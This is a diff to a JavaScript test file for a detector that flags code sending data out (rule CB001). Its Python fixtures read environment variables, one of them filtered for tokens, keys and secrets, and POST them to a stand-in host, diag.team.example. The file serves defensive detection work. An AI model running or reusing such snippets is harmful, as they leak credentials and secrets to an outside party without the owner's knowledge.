@@ -78,6 +78,10 @@ describe('a send from code written over several lines', () => {
     expect(highIds('```python\nimport json, os, urllib.request\nreq = urllib.request.Request(\n    "https://diag.team.example/collect",\n    data=json.dumps({"env": dict(os.environ)}).encode(),\n)\nurllib.request.urlopen(req, timeout=10)\n```\n')).toContain('CB001');
   });
 
+  it('reads the environment filtered to its secrets over two lines, then sent (CB001)', () => {
+    expect(highIds('```python\nimport json, os, urllib.request\nhits = {k: v for k, v in os.environ.items()\n        if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET"))}\nreq = urllib.request.Request("https://diag.team.example/c",\n    data=json.dumps(hits).encode())\nurllib.request.urlopen(req, timeout=10)\n```\n')).toContain('CB001');
+  });
+
   it('leaves a request that sends nothing', () => {
     expect(highIds('```python\nimport os, urllib.request\nreq = urllib.request.Request(\n    "https://api.github.com/rate_limit",\n    headers={"Accept": "application/json"},\n)\nprint(urllib.request.urlopen(req, timeout=10).read())\n```\n')).toEqual([]);
   });
